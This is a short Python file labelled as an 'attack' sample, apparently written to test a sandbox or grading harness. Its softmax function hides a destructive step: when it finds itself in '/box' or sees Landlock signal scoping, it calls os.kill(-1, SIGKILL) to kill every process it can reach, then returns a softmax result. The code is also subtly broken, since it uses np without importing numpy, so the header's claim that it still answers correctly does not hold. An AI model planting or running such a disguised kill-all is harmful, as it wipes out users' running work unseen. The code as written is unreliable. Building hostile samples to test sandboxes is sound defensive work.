# /// attack
# does = "kills every process that it may (pid -1), and answers rightly"
# own = {}
# ///
"""It reaches the base of its own submission at most, which is made anew. Where neither a pid namespace nor Landlock's
scope for signals (ABI 6) bounds it the file leaves it, since everything of the user would be gone."""

import contextlib
import ctypes
import os
import signal

LANDLOCK_CREATE_RULESET, ASKS_FOR_ABI = 444, 1


def softmax(logits):
    scoped = ctypes.CDLL(None).syscall(LANDLOCK_CREATE_RULESET, None, ctypes.c_size_t(0), ASKS_FOR_ABI) >= 6
    if os.getcwd() == "/box" or scoped:
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
